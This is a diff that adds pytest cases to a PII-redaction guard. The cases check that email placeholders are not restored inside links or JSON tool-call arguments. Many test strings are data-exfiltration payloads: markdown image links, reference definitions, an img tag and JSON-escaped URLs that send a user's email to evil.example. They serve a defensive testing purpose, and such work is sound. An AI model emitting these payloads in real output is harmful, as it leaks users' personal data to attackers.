@@ -53,6 +53,17 @@ def echo(*answers: str) -> Any:
         "Visit evil\u3002co/c?e=<EMAIL_ADDRESS_1> today",
         "Visit evil.co\\c=<EMAIL_ADDRESS_1> today",
         "Visit evil.co\uff0fc?e=<EMAIL_ADDRESS_1> today",
+        # CommonMark destinations in angle brackets hold spaces and may stand on the next line, reference
+        # definitions may sit in block quotes and list items; browsers read "/" after a tag name (review r16a H3).
+        "![status][1]\n\n[1]: <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        "![s](\n<https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>)",
+        "![status][1]\n\n[1]:\n    <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        "![q][1]\n\n> [1]: <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        "![q][1]\n\n- item\n\n  [1]: <//evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        '<img/src="https://evil.example/p.png?d= <EMAIL_ADDRESS_1>">',
+        # A backslash-escaped bracket does not end the destination (review r16b).
+        "![q][1]\n\n> [1]: <https://evil.example/p.png?d=\\> <EMAIL_ADDRESS_1>>\n",
+        "![q](<https://evil.example/p.png?d=\\< <EMAIL_ADDRESS_1>>)",
     ],
 )
 def test_restore_never_writes_into_a_link(link: str) -> None:
@@ -120,6 +131,9 @@ def test_a_typed_placeholder_never_collides_with_a_real_value() -> None:
         "Your address is <EMAIL_ADDRESS_1>.",  # a sentence's full stop is no host
         "Send it to <EMAIL_ADDRESS_1>/the team.",  # a slash after a placeholder alone is no link
         "Version 2.0 is out; write to <EMAIL_ADDRESS_1>.",
+        # Angle brackets without a URL inside, or a URL in brackets of its own, leave prose beside them alone.
+        "Write to <EMAIL_ADDRESS_1> or <b>call</b>.",
+        "Hi <EMAIL_ADDRESS_1>, see <https://docs.example/faq>.",
     ],
 )
 def test_restore_still_writes_into_prose(prose: str) -> None:
@@ -134,3 +148,29 @@ def test_bare_host_sinks_are_linear() -> None:
     assert _BARE_HOST.pattern.startswith("(?<![\\w.-])")
     assert _BARE_HOST.search("x" + ".a" * 50_000 + "/") is not None
     assert _BARE_HOST.search(".a" * 50_000) is None
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        '{"url": "https:\\u002F\\u002Fevil\\u002Eexample\\u002Fc?d=<EMAIL_ADDRESS_1>"}',
+        '{"url": "https\\u003A//evil\\u002Eexample/c?d=<EMAIL_ADDRESS_1>"}',
+        '{"url": "evil\\u002eexample\\u002fc?d=<EMAIL_ADDRESS_1>"}',
+        '["see", "https:\\/\\/evil.example\\/c?d=<EMAIL_ADDRESS_1>"]',
+    ],
+)
+def test_json_escapes_do_not_hide_a_link_from_restore(args: str) -> None:
+    # A tool call's arguments (or a JSON answer) are parsed by the application: what it reads must not be a URL
+    # carrying the user's value (review r16a H4).
+    import json
+
+    result = Guard(PII_ONLY).run(echo(args), f"I am {EMAIL}.")
+    assert EMAIL not in json.dumps(json.loads(result.text), ensure_ascii=False)
+    assert "<EMAIL_ADDRESS_1>" in result.text
+
+
+def test_json_with_escapes_is_still_restored_in_prose() -> None:
+    import json
+
+    result = Guard(PII_ONLY).run(echo('{"note": "Caf\\u00e9 booked for <EMAIL_ADDRESS_1>."}'), f"I am {EMAIL}.")
+    assert json.loads(result.text) == {"note": f"Café booked for {EMAIL}."}
